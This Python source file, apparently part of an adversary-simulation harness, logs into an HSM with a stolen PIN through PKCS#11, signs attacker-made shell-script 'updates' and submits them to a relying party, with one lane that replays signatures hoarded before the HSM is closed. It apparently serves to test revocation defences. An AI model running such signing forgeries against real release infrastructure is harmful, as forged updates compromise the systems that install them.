"""Signs artifacts of the attacker's own with an HSM key and a stolen PIN, and hands them to the relying party."""

from __future__ import annotations

import base64
import hashlib
import os
from typing import ClassVar

import httpx
import pkcs11

from simulations.journals import AdversaryConfig, Loot, Submission, Verdict
from simulations.techniques.hsm_login import HsmLogin
from simulations.techniques.lane import Finding


class Pkcs11SignForgery:
    """Lane ``open`` keeps its session, ``fresh`` presents the PIN every time, ``hoard`` spends signatures made early.

    A forgery counts when the relying party accepts it: what was signed before the HSM was closed has to be refused too.
    """

    lanes: ClassVar[tuple[str, ...]] = ("open", "fresh", "hoard")

    def __init__(self, config: AdversaryConfig, loot: Loot, *, lane: str) -> None:
        self._config = config
        self._login = HsmLogin(config, loot)
        self._lane = lane
        self._hoard: list[Submission] = []
        self._spent = 0
        self._http = httpx.Client(timeout=httpx.Timeout(2.0, connect=1.0), trust_env=False)

    def attempt(self) -> Finding:
        """Sign one artifact and submit it."""
        try:
            submission = self._next()
            if self._lane == "fresh":
                self._login.drop()
        except (pkcs11.PKCS11Error, AttributeError) as error:
            return self._login.failed(error, self._lane)
        try:
            answer = self._http.post(self._config.relying_party_url, json=submission.model_dump())
            verdict = Verdict.model_validate_json(answer.content)
        except httpx.TimeoutException:
            return Finding(False, "timeout", self._lane)
        except (httpx.HTTPError, ValueError):
            return Finding(False, "unreachable", self._lane)
        return Finding(verdict.accepted, verdict.code, self._lane)

    def _next(self) -> Submission:
        if self._lane != "hoard":
            return self._forge()
        if not self._hoard:
            self._hoard = [self._forge() for _ in range(20)]
            self._login.drop()
        self._spent += 1
        return self._hoard[self._spent % len(self._hoard)]

    def _forge(self) -> Submission:
        content = b"#!/bin/sh\n# not from the release signer\n" + os.urandom(16).hex().encode() + b"\n"
        return Submission(
            name=f"update-{os.urandom(4).hex()}.sh",
            artifact=base64.b64encode(content).decode(),
            key=self._config.claimed_key,
            key_spki_sha256=self._config.key_spki_sha256,
            signature=base64.b64encode(sign_with(self._login, content)).decode(),
        )


def sign_with(login: HsmLogin, content: bytes) -> bytes:
    """Sign with the attacked key: RSA PKCS #1 v1.5, or ECDSA (r and s side by side), both over SHA-256."""
    key = login.key(pkcs11.ObjectClass.PRIVATE_KEY)
    if key.key_type == pkcs11.KeyType.RSA:
        return bytes(key.sign(content, mechanism=pkcs11.Mechanism.SHA256_RSA_PKCS))
    digest = hashlib.sha256(content).digest()
    return bytes(key.sign(digest, mechanism=pkcs11.Mechanism.ECDSA))
